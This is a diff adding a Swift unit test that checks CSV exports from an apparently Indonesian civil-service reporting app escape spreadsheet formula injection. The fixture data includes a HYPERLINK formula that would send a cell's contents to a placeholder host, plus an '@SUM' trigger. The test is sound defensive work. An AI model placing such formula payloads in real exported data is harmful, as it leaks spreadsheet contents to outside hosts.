@@ -112,6 +112,24 @@ import Testing
         }
     }
 
+    /// A name from a SIASN file or an integrator that a spreadsheet would run as a formula goes out as text; a
+    /// negative figure stays a number.
+    @Test func aReportCellIsNeverAFormula() throws {
+        let profile = try NationalAdapter().effectiveProfile()
+        let def = try #require(profile.reportDefinitions.first { $0.source == .evaluationDocument })
+        let rows: [ReportRow] = [["nip": .text("198503152010011001"), "nama": .text("=HYPERLINK(\"http://x/?\"&A2;\"Klik\")"),
+                                  "jabatan": .text("@SUM(A1)"), "capaian": .number(-3.5)]]
+        for language in DocumentLanguage.allCases {
+            let r = ReportRenderer(definition: def, language: language, cityName: "Kota Uji", timeZone: .current, templates: try ReportTemplates(), periodName: "2026")
+            let line = Self.parse(r.csv(rows), separator: ";")[1]
+            func cell(_ key: String) -> String { line[def.fields.firstIndex { $0.key == key }!] }
+            #expect(cell("nama") == "'=HYPERLINK(\"http://x/?\"&A2;\"Klik\")")
+            #expect(cell("jabatan") == "'@SUM(A1)")
+            #expect(cell("capaian") == r.text(.number(-3.5)))
+            #expect(cell("capaian").hasPrefix("-3"))
+        }
+    }
+
     @Test(arguments: [
         // counts per predikat -> what is published (nil: the whole OPD hidden)
         (["Baik": 3, "Butuh Perbaikan": 1], [String: PublicReport.Cell]?.none),                    // 4 people: hidden
